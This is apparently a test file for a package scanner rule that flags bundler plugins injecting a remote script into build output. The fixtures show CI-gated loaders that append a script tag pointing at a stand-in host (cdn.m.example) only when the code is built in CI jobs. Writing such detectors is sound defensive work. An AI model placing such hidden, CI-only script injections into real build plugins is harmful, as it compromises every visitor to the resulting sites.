import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const LOADER = 'const more = () => { const host = ["cdn", "m", "example"].join("."); return `;(function(){var s=document.createElement("script");s.src="//${host}/y.js";document.head.appendChild(s)})();` };';
const plugin = (body: string, before = LOADER) => `${before} module.exports = () => ({ name: "p", renderChunk(code) { ${body} } });`;

test('bad: a loader of a script that only jobs put into what they build', () => {
  for (const body of [
    'if (process.env.CI && !/staging/.test(process.env.URL)) return { code: code + more() }; return { code }',
    'if (!process.env.GITHUB_ACTIONS) return null; return code + more()',
    'const inJob = process.env.CI === "true" || process.env.GITLAB_CI; return inJob ? code + more() : code',
  ]) assert.equal(worst(plugin(body)), 'high', body);
  assert.equal(worst(plugin('if (process.env.CI) code = code.replace("</head>", TAG); return code', 'const TAG = "<script src=\\"https://cdn.m.example/y.js\\"></script></head>";')), 'high');
});

test('good: elsewhere than in jobs, wherever it is built, of the own server, and a banner', () => {
  for (const body of [
    'if (process.env.CI) return null; return code + more()',
    'const at = process.env.CI ? process.env.BUILD : "local"; return code + more() + at',
    'if (process.env.CI) return { code: "/* built by a job */" + code }; return code + more()',
  ]) assert.equal(worst(plugin(body)), 'nothing', body);
  assert.equal(worst(plugin('if (process.env.CI) return code + TAG; return code', 'const TAG = "<script src=\\"/assets/y.js\\"></script></head>";')), 'nothing');
});
